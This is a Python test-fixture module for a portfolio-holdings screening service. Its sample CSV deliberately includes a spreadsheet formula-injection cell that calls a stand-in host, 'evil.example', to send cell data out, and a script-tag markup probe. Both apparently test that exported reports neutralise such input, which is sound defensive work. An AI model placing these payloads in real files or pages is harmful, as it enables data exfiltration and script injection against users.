"""A screening of every kind of row, with a file that means harm in its cells."""

import io
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from python_calamine import CalamineWorkbook

from service.bootstrap import Services, start
from service.config import Settings
from service.domain.as_of import AsOf
from service.screening.intake import HoldingsFile
from service.screening.screener import ScreeningRequest
from tests.databases import database_in

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
HARM = '=HYPERLINK("http://evil.example/?"&A1) HIKVISION'
MARKUP = '<script>alert(1)</script> XIAOMI & "SONS"'
FILE = (
    "Name,ISIN,Quantity,Market Value,Currency,Acquired,Side\n"
    '"HANGZHOU HIKVISION DIGITAL-A",CNE100000PM8,40000,172400.5,USD,2021-02-18,\n'
    "XIAOMI CORP,KYG9830T1067,100,-330,HKD,2020-08-26,sell\n"
    "LUOKUNG TECHNOLOGY CORP,,10,94,USD,,buy\n"
    f'"{HARM.replace(chr(34), chr(34) * 2)}",CNE100000PM8,1,1,USD,,\n'
    f'"@{MARKUP.replace(chr(34), chr(34) * 2)}",CNE100000PM8,1,1,USD,,\n'
    "APPLE INC,US0378331005,5,5,USD,,\n"
    ",,7,7,USD,,\n"
    "USD CASH,,1,1,USD,,\n"
)
Json = dict[str, Any]
Sheets = dict[str, list[list[Any]]]


@pytest.fixture(scope="session")
def services(tmp_path_factory: pytest.TempPathFactory) -> Services:
    home = tmp_path_factory.mktemp("reports")
    return start(Settings(home=home, database_url=database_in(home)), now=lambda: NOW)


@pytest.fixture(scope="session")
def screen(services: Services) -> Callable[..., Json]:
    def ask(content: str = FILE, as_of: str = "2021-03-16", name: str = "book.csv") -> Json:
        request = ScreeningRequest(as_of=AsOf.parse(as_of))
        return services.intake.screen_file(HoldingsFile(content.encode(), name), request).document(include_clear=True)

    return ask


@pytest.fixture(scope="session")
def document(screen: Callable[..., Json]) -> Json:
    return screen()


def sheets(content: bytes) -> Sheets:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return {name: book.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in book.sheet_names}
